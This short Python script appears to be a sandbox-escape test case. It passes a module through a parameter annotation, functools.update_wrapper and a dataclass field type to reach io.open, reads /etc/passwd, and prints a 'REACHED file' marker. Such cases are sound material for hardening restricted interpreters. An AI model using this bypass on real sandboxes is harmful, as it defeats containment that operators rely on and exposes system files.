# A module that annotates a function's parameter gets out: update_wrapper gives a class the annotations, a dataclass's field its type.
import dataclasses
import functools
import logging
def f(x: logging):
    pass
class Own:
    x = 1
try:
    functools.update_wrapper(Own, f)
except AttributeError:
    pass
dataclasses.dataclass(Own)
print("REACHED file", dataclasses.fields(Own)[0].type.io.open("/etc/passwd").read().count("root"))
